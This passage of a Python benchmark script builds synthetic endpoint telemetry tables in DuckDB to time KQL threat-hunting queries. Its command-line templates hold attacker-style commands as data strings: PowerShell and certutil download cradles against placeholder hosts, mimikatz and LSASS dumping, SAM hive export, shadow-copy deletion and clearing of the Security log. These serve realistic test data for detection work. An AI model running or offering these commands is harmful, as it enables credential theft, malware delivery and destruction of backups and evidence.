"""Benchmark: huntsman (KQL → SQL on DuckDB) against hand-written DuckDB SQL.

Generates a synthetic but realistic ``DeviceProcessEvents`` table (10 M rows by default) and a
``DeviceNetworkEvents`` table (rows / 5) inside DuckDB, then times a fixed set of typical
hunting queries twice: as KQL through ``db.query(kql).rows`` (parse + bind + compile + execute
+ fetch) and as hand-written SQL through ``db.backend.execute(sql).to_pylist()`` (execute +
fetch), interleaved in the same process. It reports ratios against that same-run baseline,
the compile time, and a memory check under ``memory_limit="2GiB"``. It never fails on timings.

    python bench/bench_kql.py              # 10 M rows
    python bench/bench_kql.py --quick      # 200 k rows, smoke run
    python bench/bench_kql.py --rows 1000000 --reps 7 --json /tmp/bench.json
"""

from __future__ import annotations

import argparse
import gc
import hashlib
import json
import os
import platform
import re
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Sequence
from dataclasses import asdict, dataclass, field
from datetime import datetime
from pathlib import Path
from typing import Any

import duckdb

import huntsman
from huntsman.api import Database
from huntsman.backends.duckdb import DuckDBBackend
from huntsman.schema import catalog

DEFAULT_ROWS = 10_000_000
QUICK_ROWS = 200_000
NOW = datetime(2024, 5, 31)  # `now()` for ago(): the data spans 2024-05-01 .. 2024-05-31
START = "2024-05-01 00:00:00"
SPAN_US = 30 * 86_400 * 1_000_000
N_DEVICES = 2000
TARGET_MEDIAN, TARGET_WORST, TARGET_TERM, TARGET_COMPILE_MS = 1.2, 2.0, 1.5, 5.0

# ---------------------------------------------------------------- dimension data

SYS32 = r"C:\Windows\System32"
WOW64 = r"C:\Windows\SysWOW64"
PS_DIR = r"C:\Windows\System32\WindowsPowerShell\v1.0"
PF = r"C:\Program Files"
PF86 = r"C:\Program Files (x86)"
OFFICE = r"C:\Program Files\Microsoft Office\root\Office16"
USER_APPS = r"C:\Users\{user}\AppData\Local"

# (file name, folder, weight per 10 000 events, command-line family)
FILES: list[tuple[str, str, int, str]] = [
    ("svchost.exe", SYS32, 1300, "svchost"), ("conhost.exe", SYS32, 700, "conhost"),
    ("RuntimeBroker.exe", SYS32, 250, "embedding"), ("taskhostw.exe", SYS32, 250, "plain"),
    ("dllhost.exe", SYS32, 300, "dllhost"), ("backgroundTaskHost.exe", SYS32, 200, "embedding"),
    ("SearchProtocolHost.exe", SYS32, 250, "plain"), ("SearchFilterHost.exe", SYS32, 200,
                                                      "plain"),
    ("WmiPrvSE.exe", r"C:\Windows\System32\wbem", 200, "embedding"),
    ("sihost.exe", SYS32, 60, "plain"), ("ctfmon.exe", SYS32, 60, "plain"),
    ("smartscreen.exe", SYS32, 120, "embedding"),
    ("MpCmdRun.exe", r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24040.4-0", 150,
     "mpcmdrun"),
    ("MsMpEng.exe", r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24040.4-0", 20,
     "plain"),
    ("SecurityHealthService.exe", SYS32, 30, "plain"), ("spoolsv.exe", SYS32, 10, "plain"),
    ("services.exe", SYS32, 5, "plain"), ("lsass.exe", SYS32, 3, "plain"),
    ("wininit.exe", SYS32, 5, "plain"), ("winlogon.exe", SYS32, 10, "plain"),
    ("csrss.exe", SYS32, 10, "plain"), ("smss.exe", SYS32, 5, "plain"),
    ("explorer.exe", r"C:\Windows", 60, "plain"), ("userinit.exe", SYS32, 30, "plain"),
    ("dwm.exe", SYS32, 20, "plain"), ("fontdrvhost.exe", SYS32, 20, "plain"),
    ("audiodg.exe", SYS32, 40, "plain"), ("consent.exe", SYS32, 30, "plain"),
    ("TrustedInstaller.exe", r"C:\Windows\servicing", 20, "plain"),
    ("TiWorker.exe", r"C:\Windows\WinSxS\amd64_microsoft-windows-servicingstack", 60, "plain"),
    ("msiexec.exe", SYS32, 120, "msiexec"), ("wuauclt.exe", SYS32, 40, "plain"),
    ("UsoClient.exe", SYS32, 40, "plain"), ("MoUsoCoreWorker.exe", SYS32, 60, "plain"),
    ("sppsvc.exe", SYS32, 30, "plain"), ("WUDFHost.exe", SYS32, 40, "plain"),
    ("CompatTelRunner.exe", SYS32, 60, "plain"), ("DeviceCensus.exe", SYS32, 30, "plain"),
    ("gpupdate.exe", SYS32, 40, "gpupdate"), ("tasklist.exe", SYS32, 40, "recon"),
    ("taskkill.exe", SYS32, 50, "taskkill"), ("schtasks.exe", SYS32, 80, "schtasks"),
    ("sc.exe", SYS32, 60, "sc"), ("net.exe", SYS32, 60, "net"), ("net1.exe", SYS32, 40, "net"),
    ("whoami.exe", SYS32, 30, "recon"), ("ipconfig.exe", SYS32, 40, "recon"),
    ("systeminfo.exe", SYS32, 10, "recon"), ("hostname.exe", SYS32, 10, "recon"),
    ("PING.EXE", SYS32, 40, "ping"), ("nslookup.exe", SYS32, 20, "ping"),
    ("NETSTAT.EXE", SYS32, 20, "recon"), ("reg.exe", SYS32, 80, "reg"),
    ("regsvr32.exe", SYS32, 30, "regsvr32"), ("rundll32.exe", SYS32, 140, "rundll32"),
    ("Rundll32.exe", SYS32, 10, "rundll32"), ("RUNDLL32.EXE", WOW64, 5, "rundll32"),
    ("mshta.exe", SYS32, 5, "mshta"), ("wscript.exe", SYS32, 15, "script"),
    ("cscript.exe", SYS32, 20, "script"), ("certutil.exe", SYS32, 8, "certutil"),
    ("bitsadmin.exe", SYS32, 5, "bitsadmin"), ("cmd.exe", SYS32, 550, "cmd"),
    ("CMD.EXE", SYS32, 30, "cmd"), ("Cmd.exe", WOW64, 10, "cmd"),
    ("powershell.exe", PS_DIR, 450, "powershell"), ("PowerShell.exe", PS_DIR, 40, "powershell"),
    ("POWERSHELL.EXE", PS_DIR, 10, "powershell"), ("pwsh.exe", r"C:\Program Files\PowerShell\7",
                                                   40, "powershell"),
    ("WMIC.exe", r"C:\Windows\System32\wbem", 20, "wmic"), ("vssadmin.exe", SYS32, 3, "vss"),
    ("bcdedit.exe", SYS32, 3, "bcdedit"), ("wevtutil.exe", SYS32, 10, "wevtutil"),
    ("MSBuild.exe", r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319", 10, "plain"),
    ("findstr.exe", SYS32, 30, "findstr"), ("curl.exe", SYS32, 15, "curl"),
    ("tar.exe", SYS32, 5, "plain"), ("7z.exe", rf"{PF}\7-Zip", 20, "sevenzip"),
    ("chrome.exe", rf"{PF}\Google\Chrome\Application", 800, "browser"),
    ("msedge.exe", rf"{PF86}\Microsoft\Edge\Application", 600, "browser"),
    ("firefox.exe", rf"{PF}\Mozilla Firefox", 150, "browser"),
    ("ms-teams.exe", r"C:\Program Files\WindowsApps\MSTeams_24102.2223.2870.9480_x64", 200,
     "plain"),
    ("Teams.exe", rf"{USER_APPS}\Microsoft\Teams\current", 50, "browser"),
    ("OUTLOOK.EXE", OFFICE, 60, "office"), ("WINWORD.EXE", OFFICE, 60, "office"),
    ("EXCEL.EXE", OFFICE, 60, "office"), ("POWERPNT.EXE", OFFICE, 20, "office"),
    ("OneDrive.exe", rf"{USER_APPS}\Microsoft\OneDrive", 80, "plain"),
    ("OneDriveStandaloneUpdater.exe", rf"{USER_APPS}\Microsoft\OneDrive", 20, "plain"),
    ("Code.exe", rf"{USER_APPS}\Programs\Microsoft VS Code", 60, "browser"),
    ("git.exe", rf"{PF}\Git\cmd", 40, "git"), ("python.exe", rf"{USER_APPS}\Programs\Python",
                                               40, "python"),
    ("java.exe", rf"{PF}\Java\jre1.8.0_401\bin", 30, "plain"),
    ("node.exe", rf"{PF}\nodejs", 30, "plain"), ("notepad.exe", SYS32, 40, "notepad"),
    ("mstsc.exe", SYS32, 10, "plain"), ("AcroRd32.exe", rf"{PF86}\Adobe\Acrobat Reader DC", 20,
                                        "plain"),
    ("Zoom.exe", r"C:\Users\{user}\AppData\Roaming\Zoom\bin", 20, "plain"),
    ("slack.exe", rf"{USER_APPS}\slack\app-4.38.125", 20, "plain"),
    ("AdobeARM.exe", rf"{PF86}\Common Files\Adobe\ARM\1.0", 10, "plain"),
    ("GoogleUpdate.exe", rf"{PF86}\Google\Update", 30, "plain"),
    ("procdump64.exe", r"C:\Users\Public\tools", 2, "procdump"),
    ("PsExec.exe", r"C:\Users\Public\tools", 2, "psexec"),
    ("PSEXESVC.exe", r"C:\Windows", 2, "plain"),
    ("mimikatz.exe", r"C:\Users\Public\tools\mimikatz_trunk\x64", 1, "mimikatz"),
]

_PS_BENIGN = [
    ("{exe} -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\scripts\\inventory_{n}.ps1",
     8),
    ('"{exe}" -NoLogo -NonInteractive -Command "Get-Service | Where-Object Status -eq Running"',
     6),
    ('{exe} -Command "Get-ChildItem -Path C:\\Users\\{user}\\Documents -Recurse | '
     'Measure-Object"', 5),
    ("{exe} -ExecutionPolicy RemoteSigned -File \\\\fileserver\\netlogon\\logon_{w}.ps1", 6),
    ('{exe} -NoProfile -Command "& {Import-Module PSReadLine; Get-History}"', 3),
    ("{exe} -c Get-WmiObject Win32_OperatingSystem | Select-Object Caption,Version", 3),
]
_PS_SUSPICIOUS = [
    ("{exe} -nop -w hidden -enc {b64}", 2),
    ('{exe} -nop -c "IEX (New-Object Net.WebClient).DownloadString(\'http://{host}/{w}_{n}.ps1\')"',
     1),
    ('{exe} -ExecutionPolicy Bypass -c "Invoke-Expression (Invoke-WebRequest -Uri '
     'https://{host}/s/{n} -UseBasicParsing).Content"', 1),
    ("{exe} -c \"(New-Object System.Net.WebClient).DownloadFile('https://{host}/{w}.exe',"
     "'C:\\Users\\Public\\{w}_{n}.exe')\"", 1),
]
TEMPLATES: dict[str, list[tuple[str, int]]] = {
    "plain": [('"{exe}"', 3), ("{exe}", 1)],
    "embedding": [("{exe} -Embedding", 4), ('"{exe}" /Processid:{{{n}-4a2b-9c1d}}', 1)],
    "conhost": [("\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", 1)],
    "svchost": [("{exe} -k netsvcs -p -s Schedule", 3), ("{exe} -k LocalService -p", 3),
                ("{exe} -k NetworkService -p -s Dnscache", 2), ("{exe} -k DcomLaunch -p", 2),
                ("{exe} -k wsappx -p -s AppXSvc", 1), ("{exe} -k UnistackSvcGroup", 1)],
    "dllhost": [("{exe} /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}", 3),
                ("{exe} /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", 1)],
    "mpcmdrun": [('"{exe}" -wdenable', 2), ('"{exe}" SignaturesUpdateService -ScheduleJob', 1)],
    "msiexec": [("{exe} /V", 2), ('{exe} /i "C:\\Users\\{user}\\Downloads\\setup_{w}_{n}.msi" '
                                  "/qn", 1)],
    "gpupdate": [("{exe} /target:computer /force", 1)],
    "recon": [("{exe}", 2), ("{exe} /all", 2), ("{exe} /v /fo csv", 1)],
    "taskkill": [("{exe} /F /IM {w}.exe", 2), ("{exe} /PID {n} /T /F", 1)],
    "schtasks": [('{exe} /query /fo LIST /v', 2),
                 ('{exe} /create /tn "\\Microsoft\\Windows\\{w}_{n}" /tr '
                  '"C:\\Users\\{user}\\AppData\\Roaming\\{w}.exe" /sc onlogon /ru SYSTEM', 1)],
    "sc": [("{exe} query state= all", 2), ("{exe} config {w} start= auto", 1)],
    "net": [("{exe} user {user} /domain", 2), ('{exe} group "Domain Admins" /domain', 1),
            ("{exe} use \\\\fileserver\\share_{n}", 2), ("{exe} localgroup administrators", 1)],
    "ping": [("{exe} -n 1 {host}", 2), ("{exe} 10.1.{n}", 1)],
    "reg": [("{exe} query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", 2),
            ('{exe} add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v {w} /t '
             'REG_SZ /d "C:\\Users\\{user}\\AppData\\Roaming\\{w}_{n}.exe" /f', 1),
            ("{exe} save HKLM\\SAM C:\\Windows\\Temp\\sam_{n}.hiv", 1)],
    "regsvr32": [("{exe} /s C:\\Windows\\System32\\{w}.dll", 5),
                 ("{exe} /s /n /u /i:http://{host}/{w}.sct scrobj.dll", 1)],
    "rundll32": [("{exe} C:\\Windows\\System32\\shell32.dll,Control_RunDLL", 6),
                 ("{exe} C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask", 6),
                 ('{exe} "C:\\Users\\{user}\\AppData\\Local\\Temp\\{w}_{n}.dll",DllRegisterServer',
                  2),
                 ("{exe} C:\\Windows\\System32\\comsvcs.dll, MiniDump {n} "
                  "C:\\Windows\\Temp\\lsass_{n}.dmp full", 1)],
    "mshta": [("{exe} http://{host}/{w}.hta", 1),
              ('{exe} vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell""")', 1)],
    "script": [('{exe} //nologo "C:\\Users\\{user}\\AppData\\Local\\Temp\\{w}_{n}.vbs"', 2),
               ("{exe} \\\\fileserver\\netlogon\\map_drives.vbs", 3)],
    "certutil": [("{exe} -urlcache -split -f http://{host}/{w}.exe C:\\Users\\Public\\{w}.exe", 1),
                 ("{exe} -decode C:\\Users\\Public\\{w}.b64 C:\\Users\\Public\\{w}_{n}.exe", 1),
                 ("{exe} -verifystore Root", 2)],
    "bitsadmin": [("{exe} /transfer job_{n} /download /priority high http://{host}/{w}.exe "
                   "C:\\Users\\Public\\{w}.exe", 1)],
    "cmd": [("{exe} /c echo {n} > C:\\Windows\\Temp\\out_{n}.txt", 6),
            ('{exe} /c "C:\\Program Files\\Contoso\\Agent\\update_{w}.bat"', 6),
            ("{exe} /c whoami /all", 2), ("{exe} /c net user {user} /domain", 2),
            ("{exe} /c ipconfig /all", 2), ('{exe} /c start "" "https://{host}/{w}"', 3),
            ('{exe} /c copy "C:\\Users\\{user}\\AppData\\Local\\Temp\\{w}_{n}.tmp" '
             'C:\\ProgramData\\{w}.exe', 2),
            ("{exe} /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__{n}.{n} 2>&1", 1),
            ("{exe} /c powershell -nop -w hidden -enc {b64}", 1),
            ("{exe} /c copy \\\\{host}\\tools\\mimikatz.exe C:\\Users\\Public\\m_{n}.exe", 1),
            ("{exe} /c del /q C:\\Users\\{user}\\AppData\\Local\\Temp\\*.tmp", 4)],
    "powershell": _PS_BENIGN * 3 + _PS_SUSPICIOUS + [('{exe} -c "Invoke-Mimikatz -DumpCreds"',
                                                       1)],
    "wmic": [("{exe} process call create \"cmd.exe /c {w}_{n}.bat\"", 1),
             ("{exe} shadowcopy delete /nointeractive", 1), ("{exe} os get caption", 3)],
    "vss": [("{exe} delete shadows /all /quiet", 1), ("{exe} list shadows", 2)],
    "bcdedit": [("{exe} /set {default} recoveryenabled no", 1), ("{exe} /enum", 2)],
    "wevtutil": [("{exe} cl Security", 1), ("{exe} qe System /c:10 /f:text", 3)],
    "findstr": [('{exe} /si password C:\\Users\\{user}\\Documents\\*.txt', 1),
                ('{exe} /i "error" C:\\ProgramData\\logs\\app_{n}.log', 3)],
    "curl": [("{exe} -s -o C:\\Users\\Public\\{w}.bin https://{host}/{w}/{n}", 1),
             ("{exe} https://{host}/health", 2)],
    "sevenzip": [('"{exe}" a -pInfected C:\\Users\\Public\\{w}_{n}.7z C:\\Users\\{user}\\'
                  "Documents", 1), ('"{exe}" x C:\\Users\\{user}\\Downloads\\{w}.zip', 4)],
    "browser": [('"{exe}" --type=renderer --lang=en-US --field-trial-handle={n} /prefetch:1', 6),
                ('"{exe}" --type=utility --utility-sub-type=network.mojom.NetworkService '
                 "--mojo-platform-channel-handle={n} /prefetch:8", 3),
                ('"{exe}" https://{host}/{w}/index.html', 2), ('"{exe}"', 1)],
    "office": [('"{exe}" /n "C:\\Users\\{user}\\Documents\\{w}_report_{n}.docx"', 3),
               ('"{exe}" /dde', 1), ('"{exe}" /recycle', 1),
               ('"{exe}" "C:\\Users\\{user}\\Downloads\\invoice_{n}.xlsm"', 1)],
    "git": [('"{exe}" fetch --all', 2), ('"{exe}" status --porcelain', 3)],
    "python": [('"{exe}" C:\\Users\\{user}\\src\\{w}_tool\\main.py --verbose', 2),
               ('"{exe}" -m pip install requests', 1)],
    "notepad": [('"{exe}" C:\\Users\\{user}\\Desktop\\{w}_notes.txt', 1)],
    "procdump": [("{exe} -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls_{n}.dmp", 1)],
    "psexec": [("{exe} \\\\srv-{n} -s -d cmd.exe /c {w}.bat", 1)],
    "mimikatz": [('{exe} "privilege::debug" "sekurlsa::logonpasswords" exit', 2),
                 ('{exe} "lsadump::dcsync /user:krbtgt" exit', 1)],
}

PARENTS: list[tuple[str, str, int, str]] = [
    ("explorer.exe", r"C:\Windows", 24, r"C:\Windows\Explorer.EXE"),
    ("svchost.exe", SYS32, 22, r"C:\Windows\system32\svchost.exe -k netsvcs -p"),
    ("services.exe", SYS32, 10, r"C:\Windows\system32\services.exe"),
    ("cmd.exe", SYS32, 8, r"C:\Windows\system32\cmd.exe /c C:\ProgramData\scripts\run.bat"),
    ("powershell.exe", PS_DIR, 6, "powershell.exe -ExecutionPolicy Bypass -File deploy.ps1"),
    ("WmiPrvSE.exe", r"C:\Windows\System32\wbem", 4, r"C:\Windows\system32\wbem\wmiprvse.exe"),
    ("chrome.exe", rf"{PF}\Google\Chrome\Application", 7, '"chrome.exe"'),
    ("msedge.exe", rf"{PF86}\Microsoft\Edge\Application", 4, '"msedge.exe"'),
    ("msiexec.exe", SYS32, 3, r"C:\Windows\system32\msiexec.exe /V"),
    ("taskhostw.exe", SYS32, 3, "taskhostw.exe"),
    ("userinit.exe", SYS32, 1, r"C:\Windows\system32\userinit.exe"),
    ("WINWORD.EXE", OFFICE, 1, '"WINWORD.EXE" /n'), ("EXCEL.EXE", OFFICE, 1, '"EXCEL.EXE"'),
    ("OUTLOOK.EXE", OFFICE, 1, '"OUTLOOK.EXE" /recycle'),
    ("ms-teams.exe", r"C:\Program Files\WindowsApps", 3, "ms-teams.exe"),
    ("Code.exe", r"C:\Users\Public\VSCode", 2, '"Code.exe"'),
]

WORDS = ["update", "report", "invoice", "setup", "helper", "sync", "backup", "agent", "service",
         "config", "install", "payload", "loader", "stage2", "beacon", "client", "driver",
         "patch", "tool", "runner", "worker", "task", "monitor", "collector", "export", "import",
         "archive", "cleanup", "launcher", "plugin", "notes", "budget", "payroll", "hr_portal",
         "vpn", "printer", "scanner", "teams", "zoom", "chrome_update", "svc", "win_update",
         "msupdate", "dropper", "implant", "tmp", "cache", "temp", "data", "log"]
HOSTS = ["www.microsoft.com", "login.microsoftonline.com", "cdn.contoso.com", "intranet.contoso"
         ".local", "github.com", "raw.githubusercontent.com", "pastebin.com", "files.example.net",
         "update-cdn.badcdn.xyz", "185.220.101.42", "45.137.21.9", "storage.googleapis.com",
         "dl.dropboxusercontent.com", "api.slack.com", "zoom.us", "download.windowsupdate.com",
         "s3.amazonaws.com", "transfer.sh", "ngrok.io", "fileserver"]
TAGS = ["Persistence", "Discovery", "LateralMovement", "CredentialAccess", "Execution",
        "DefenseEvasion", "Collection", "Exfiltration", "CommandAndControl",
        "PrivilegeEscalation", "Impact", "InitialAccess"]
FIRST = ["james", "mary", "john", "patricia", "robert", "jennifer", "michael", "linda", "david",
         "elizabeth", "william", "barbara", "richard", "susan", "joseph", "jessica", "thomas",
         "sarah", "chris", "karen"]
LAST = ["smith", "johnson", "williams", "brown", "jones", "garcia", "miller", "davis", "lopez",
        "wilson", "anderson", "taylor", "moore", "jackson", "martin", "lee", "thompson", "white",
        "harris", "clark"]
SYSTEM_ACCOUNTS = ["system", "local service", "network service"]
N_USERS = len(FIRST) * len(LAST)
PORTS = [(443, 5500), (80, 1500), (53, 1000), (445, 500), (135, 300), (3389, 200),
         (8080, 300), (22, 200), (5985, 100), (389, 200), (88, 180), (4444, 20)]
NET_PROCS = [("chrome.exe", 30), ("msedge.exe", 20), ("svchost.exe", 20), ("ms-teams.exe", 8),
             ("OUTLOOK.EXE", 6), ("OneDrive.exe", 5), ("powershell.exe", 4), ("lsass.exe", 3),
             ("rundll32.exe", 1), ("System", 3)]


def duck(db: Database) -> duckdb.DuckDBPyConnection:
    """The store's DuckDB connection (configuration locked, external access disabled)."""
    backend = db.backend
    if not isinstance(backend, DuckDBBackend):
        raise TypeError(f"this benchmark needs the DuckDB backend, not {type(backend).__name__}")
    return backend.con


def _hex(seed: str, n: int) -> str:
    return hashlib.sha256(seed.encode()).hexdigest()[:n]


def sql_str(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


def sql_list(values: Sequence[str | int]) -> str:
    return "[" + ", ".join(sql_str(v) if isinstance(v, str) else str(v) for v in values) + "]"


def weighted_bag(weights: Sequence[int]) -> list[int]:
    """Indexes repeated by weight: ``bag[hash % len(bag)]`` draws with these weights."""
    return [i for i, w in enumerate(weights) for _ in range(w)]


def h(salt: int, mod: int, var: str = "i") -> str:
    """A deterministic pseudo-random integer in [0, mod) from the row number."""
    return f"CAST(hash({var}, {salt}) % {mod} AS BIGINT)"


def pick(values: Sequence[str | int], index_sql: str) -> str:
    """``values[index]`` (0-based) as a SQL expression over a constant list."""
    return f"{sql_list(values)}[{index_sql} + 1]"


@dataclass
class Dims:
    """Lists the generator indexes into (built once in Python, inlined as SQL constants)."""

    file_bag: list[int]
    tpl: list[str]
    tpl_start: list[int]
    tpl_count: list[int]
    users: list[str]
    b64: list[str]
    device_ids: list[str]
    device_names: list[str]


def build_dims() -> Dims:
    tpl: list[str] = []
    starts: list[int] = []
    counts: list[int] = []
    for name, folder, _, family in FILES:
        starts.append(len(tpl))
        exe = folder + "\\" + name
        for text, weight in TEMPLATES[family]:
            tpl += [text.replace("{exe}", exe)] * weight
        counts.append(len(tpl) - starts[-1])
    users = [f"{f}.{last}" for last in LAST for f in FIRST]
    b64 = ["SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" + _hex(
        f"b64{k}", 24) for k in range(16)]
    ids = [_hex(f"device{d}", 40) for d in range(N_DEVICES)]
    names = [(f"srv-{d:04d}" if d % 10 == 0 else f"ws-{d:04d}") + ".contoso.local"
             for d in range(N_DEVICES)]
    return Dims(weighted_bag([f[2] for f in FILES]), tpl, starts, counts, users, b64, ids, names)


# ---------------------------------------------------------------- data generation

def _process_base(n: int, dims: Dims) -> str:
    """Per-row draws (device, file, account, parent, ...) from the row number ``i``."""
    parent_bag = weighted_bag([p[2] for p in PARENTS])
    user = f"CASE WHEN {h(4, 10)} < 9 THEN d % {N_USERS} ELSE {h(5, N_USERS)} END"
    acct = f"CASE WHEN {h(3, 10)} < 4 THEN {h(15, 3)} ELSE 3 + ({user}) END"
    return f"""
        SELECT i, d, {pick(dims.file_bag, h(2, len(dims.file_bag)))} AS f, {acct} AS a,
               {pick(parent_bag, h(6, len(parent_bag)))} AS p, {h(7, 3)} AS v,
               {h(8, 100000)} AS num, {h(9, 10)} AS tenth
        FROM (SELECT range AS i, {h(1, N_DEVICES, 'range')} AS d FROM range({n}))"""


def _command_line(dims: Dims) -> str:
    tpl = (f"{sql_list(dims.tpl)}[{sql_list(dims.tpl_start)}[f + 1] + "
           f"CAST(hash(i, 11) % {sql_list(dims.tpl_count)}[f + 1] AS BIGINT) + 1]")
    text = f"replace({tpl}, '{{n}}', CAST(num AS VARCHAR))"
    text = f"replace({text}, '{{user}}', owner)"
    text = f"replace({text}, '{{host}}', {pick(HOSTS, h(12, len(HOSTS)))})"
    text = f"replace({text}, '{{w}}', {pick(WORDS, h(13, len(WORDS)))})"
    return f"replace({text}, '{{b64}}', {pick(dims.b64, h(14, len(dims.b64)))})"


def _additional_fields() -> str:
    """A JSON object with 1-3 distinct MITRE tactic tags, for one row in ten."""
    t1 = h(21, len(TAGS))
    t2 = f"(({t1}) + 1 + {h(22, 5)}) % {len(TAGS)}"
    t3 = f"(({t2}) + 1 + {h(23, 5)}) % {len(TAGS)}"
    tags = [pick(TAGS, t) for t in (t1, t2, t3)]
    k = h(20, 3)
    body = (f"'{{\"Tags\":[\"' || {tags[0]} || CASE WHEN {k} >= 1 THEN '\",\"' || {tags[1]} "
            f"ELSE '' END || CASE WHEN {k} = 2 THEN '\",\"' || {tags[2]} ELSE '' END || "
            f"'\"],\"ProcessStartKey\":' || CAST({h(24, 10**12)} AS VARCHAR) || "
            f"',\"IsLocalLogon\":' || CASE WHEN tenth < 5 THEN 'true' ELSE 'false' END || '}}'")
    return f"CASE WHEN tenth = 0 THEN {body} ELSE '' END"


def _timestamp(n: int, salt: int) -> str:
    offset = f"CAST(i * ({SPAN_US} / {n}) AS BIGINT) + {h(salt, 300_000_000)}"
    return f"TIMESTAMP '{START}' + to_microseconds({offset})"


def process_columns(dims: Dims) -> dict[str, str]:
    names, folders = [f[0] for f in FILES], [f[1] for f in FILES]
    pn, pf, pc = ([p[k] for p in PARENTS] for k in (0, 1, 3))
    sha = [_hex(f"{x}|{v}", 64) for x in names for v in range(3)]
    psha = [_hex(f"parent|{x}", 64) for x in pn]
    is_sys = "a < 3"
    return {
        "Timestamp": "ts",
        "DeviceId": pick(dims.device_ids, "d"),
        "DeviceName": pick(dims.device_names, "d"),
        "ActionType": "'ProcessCreated'",
        "FileName": pick(names, "f"),
        "FolderPath": f"replace({pick(folders, 'f')}, '{{user}}', owner) || '\\' || "
                      f"{pick(names, 'f')}",
        "SHA1": f"substr({pick(sha, 'f * 3 + v')}, 1, 40)",
        "SHA256": pick(sha, "f * 3 + v"),
        "MD5": f"substr({pick(sha, 'f * 3 + v')}, 25, 32)",
        "FileSize": "CAST(20000 + (hash(f, v) % 5000000) AS BIGINT)",
        "ProcessId": f"4 * (1 + {h(30, 16000)})",
        "ProcessCommandLine": _command_line(dims),
        "ProcessIntegrityLevel": f"CASE WHEN {is_sys} THEN 'System' WHEN tenth = 1 THEN 'High' "
                                 f"ELSE 'Medium' END",
        "ProcessTokenElevation": "'TokenElevationTypeDefault'",
        "ProcessCreationTime": f"ts - to_microseconds({h(31, 1000)})",
        "AccountDomain": f"CASE WHEN {is_sys} THEN 'nt authority' ELSE 'contoso' END",
        "AccountName": "account",
        "AccountSid": f"CASE WHEN {is_sys} THEN 'S-1-5-' || CAST(18 + a AS VARCHAR) ELSE "
                      f"'S-1-5-21-1004336348-1177238915-682003330-' || CAST(1100 + a AS VARCHAR) "
                      f"END",
        "AccountUpn": f"CASE WHEN {is_sys} THEN '' ELSE account || '@contoso.com' END",
        "LogonId": f"CASE WHEN {is_sys} THEN 999 ELSE 100000 + d * 17 + a END",
        "InitiatingProcessAccountName": "account",
        "InitiatingProcessAccountDomain": f"CASE WHEN {is_sys} THEN 'nt authority' ELSE "
                                          f"'contoso' END",
        "InitiatingProcessSHA256": pick(psha, "p"),
        "InitiatingProcessFileName": pick(pn, "p"),
        "InitiatingProcessId": f"4 * (1 + {h(32, 16000)})",
        "InitiatingProcessCommandLine": pick(pc, "p"),
        "InitiatingProcessCreationTime": f"ts - to_microseconds({h(33, 3_600_000_000)})",
        "InitiatingProcessFolderPath": f"{pick(pf, 'p')} || '\\' || {pick(pn, 'p')}",
        "InitiatingProcessParentId": f"4 * (1 + {h(34, 16000)})",
        "InitiatingProcessParentFileName": "CASE WHEN p = 0 THEN 'userinit.exe' ELSE "
                                           "'services.exe' END",
        "ReportId": "i + 1",
        "AdditionalFields": _additional_fields(),
        "InitiatingProcessSessionId": f"CASE WHEN {is_sys} THEN 0 ELSE 1 END",
        "CreatedProcessSessionId": f"CASE WHEN {is_sys} THEN 0 ELSE 1 END",
    }


def network_columns(dims: Dims) -> dict[str, str]:
    procs = [p for p, _ in NET_PROCS]
    public = f"{h(44, 10)} < 7"
    return {
        "Timestamp": "ts",
        "DeviceId": pick(dims.device_ids, "d"),
        "DeviceName": pick(dims.device_names, "d"),
        "ActionType": f"CASE WHEN {h(45, 20)} = 0 THEN 'ConnectionFailed' WHEN {h(45, 20)} = 1 "
                      f"THEN 'InboundConnectionAccepted' ELSE 'ConnectionSuccess' END",
        "RemotePort": "port",
        "RemoteIP": f"CASE WHEN {public} THEN CAST(20 + {h(46, 200)} AS VARCHAR) || '.' || "
                    f"CAST({h(47, 256)} AS VARCHAR) || '.' || CAST({h(48, 256)} AS VARCHAR) || "
                    f"'.' || CAST(1 + {h(49, 254)} AS VARCHAR) ELSE '10.0.' || "
                    f"CAST({h(46, 256)} AS VARCHAR) || '.' || CAST(1 + {h(49, 254)} AS VARCHAR) "
                    f"END",
        "RemoteUrl": f"CASE WHEN port IN (80, 443, 8080) THEN {pick(HOSTS, h(50, len(HOSTS)))} "
                     f"ELSE '' END",
        "LocalIP": "'10.1.' || CAST(d // 250 AS VARCHAR) || '.' || CAST(d % 250 + 1 AS VARCHAR)",
        "LocalPort": f"49152 + {h(51, 16000)}",
        "Protocol": "CASE WHEN port = 53 THEN 'Udp' ELSE 'Tcp' END",
        "LocalIPType": "'Private'",
        "RemoteIPType": f"CASE WHEN {public} THEN 'Public' ELSE 'Private' END",
        "InitiatingProcessFileName": pick(procs, "np"),
        "InitiatingProcessSHA256": pick([_hex(f"parent|{x}", 64) for x in procs], "np"),
        "InitiatingProcessCommandLine": f"'\"' || {pick(procs, 'np')} || '\"'",
        "InitiatingProcessAccountName": f"CASE WHEN {h(52, 3)} = 0 THEN 'system' ELSE "
                                        f"{pick(dims.users, f'd % {N_USERS}')} END",
        "InitiatingProcessId": f"4 * (1 + {h(53, 16000)})",
        "ReportId": "i + 1",
    }


def column_list(columns: Sequence[tuple[str, str]], alias: str = "") -> str:
    """The table's Kusto columns, quoted (the store may have hidden columns besides)."""
    prefix = f"{alias}." if alias else ""
    return ", ".join(f'{prefix}"{name}"' for name, _ in columns)


def schema(table: str) -> list[tuple[str, str]]:
    return [(c.name, c.type) for c in catalog().tables[table].columns]


def _defaults(columns: list[tuple[str, str]], given: dict[str, str]) -> list[str]:
    """One SQL expression per table column: the given one, else a typed empty value."""
